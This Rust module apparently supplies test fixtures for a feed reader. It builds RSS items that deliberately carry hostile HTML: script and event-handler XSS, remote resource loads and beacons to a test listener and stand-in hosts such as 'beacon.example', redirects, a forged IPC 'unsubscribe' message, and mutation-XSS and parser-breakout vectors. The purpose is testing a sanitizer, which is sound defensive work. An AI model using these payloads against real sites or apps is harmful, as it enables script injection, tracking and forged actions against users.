//! Stories that mean harm: they run, ask, lead and call, each in the ways that HTML has for it. Unlike the rest of this crate
//! they do not exhaust their reader; whoever reads them listens for what leaves.

/// What each of them begins with, so that a reader can tell that it is there.
pub const QUIET: &str =
    "A quiet paragraph, so that there is something to read in this story of a feed that means harm.";

/// What one that runs does: it marks whatever window it is in.
pub const MARKS: &str = "parent.document.title='ran';top.ran=1;window.ran=1";

/// The stories; what they ask, they ask of `beacon` (`http://host:port`).
#[must_use]
pub fn harm(beacon: &str) -> Vec<String> {
    let kinds = [runs(beacon), loads(beacon), styles(beacon), leads(beacon), waits(beacon), bends(beacon)];
    let all = kinds.concat();
    kinds.into_iter().chain([all]).map(|harm| format!("<p>{QUIET}</p>{harm}")).collect()
}

/// The stories as a feed of one host.
#[must_use]
pub fn harmful_feed(beacon: &str) -> String {
    let escaped = |text: &str| text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
    let item = |(number, body): (usize, String)| {
        let title = format!("A story that means harm, {number} <img src=x onerror=\"top.ran=1\">");
        format!(
            "<item><title>{}</title><guid>{number}</guid><description>{}</description></item>",
            escaped(&title),
            escaped(&body)
        )
    };
    let items: String = (1..).zip(harm(beacon)).map(item).collect();
    format!("<rss version=\"2.0\"><channel><title>Harm</title><link>{beacon}/</link>{items}</channel></rss>")
}

fn runs(at: &str) -> String {
    format!(
        r#"<script>{MARKS};fetch("{at}/script")</script><script src="{at}/src.js"></script><script type="module">import "{at}/module.js"</script>
<iframe src="{at}/frame"></iframe><iframe srcdoc="<script>{MARKS}</script>"></iframe><body onload="{MARKS}">
<svg><script>{MARKS}</script></svg><svg onload="{MARKS}"></svg><script>navigator.sendBeacon("{at}/beacon");new WebSocket("ws://beacon.example/")</script>
<script>webkit.messageHandlers.ipc.postMessage('{{"cmd":"unsubscribe","payload":{{"publication":1}}}}')</script>"#
    )
}

fn loads(at: &str) -> String {
    format!(
        r#"<img src="{at}/picture.png" srcset="{at}/2x.png 2x" onerror="{MARKS}" onload="{MARKS}"><picture><source srcset="{at}/source.webp"><img src="{at}/in.png"></picture>
<object data="{at}/object"></object><embed src="{at}/embed"><video src="{at}/video" poster="{at}/poster" autoplay><track src="{at}/track.vtt" default></video>
<audio src="{at}/audio" autoplay></audio><svg><image href="{at}/svg.png"/><use href="{at}/use.svg#a"/></svg><input type="image" src="{at}/input">
<table background="{at}/table"><tr><td background="{at}/cell">x</td></tr></table><template><img src="{at}/template"></template>"#
    )
}

fn styles(at: &str) -> String {
    format!(
        r#"<link rel="stylesheet" href="{at}/style.css"><style>@import "{at}/import.css"; p {{ background: url({at}/bg) }} @font-face {{ font-family: f; src: url({at}/font) }} body {{ font-family: f }}</style>
<p style="background:url({at}/inline);list-style:url({at}/list);cursor:url({at}/cursor),auto">styled</p><svg><rect filter="url({at}/filter#f)" width="9" height="9"/></svg>"#
    )
}

fn leads(at: &str) -> String {
    format!(
        r#"<meta http-equiv="refresh" content="0;url={at}/refresh"><base href="{at}/"><link rel="dns-prefetch" href="//names.example">
<link rel="prefetch" href="{at}/prefetch"><link rel="preconnect" href="{at}"><link rel="prerender" href="{at}/prerender"><link rel="icon" href="{at}/icon"><link rel="manifest" href="{at}/manifest">
<a href="javascript:{MARKS}" ping="{at}/ping">a link</a><a href="tauri://localhost/">home</a><a id="story" href="story://evil.example/story/1">elsewhere</a>
<form action="{at}/form"><button formaction="{at}/go">Go</button></form><form id="sent" action="{at}/sent"></form><script>sent.submit();location="{at}/away";open("{at}/window")</script>"#
    )
}

fn waits(_at: &str) -> String {
    format!(
        r#"<details open ontoggle="{MARKS}"><summary>more</summary></details><input autofocus onfocus="{MARKS}"><marquee onstart="{MARKS}">m</marquee>
<p onmouseover="{MARKS}" onclick="{MARKS}" onscroll="{MARKS}">touch me</p><p style="animation:a 1s" onanimationstart="{MARKS}">moves</p>"#
    )
}

fn bends(at: &str) -> String {
    format!(
        r#"<math><mtext><table><mglyph><style><img src=x onerror="{MARKS}"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src='{at}/noscript' onerror='{MARKS}'>"></noscript><textarea><p title="</textarea><img src='{at}/area' onerror='{MARKS}'>">
</textarea><svg><![CDATA[<img src='{at}/cdata' onerror='{MARKS}'>]]></svg><!--><img src="{at}/comment" onerror="{MARKS}">-->"#
    )
}
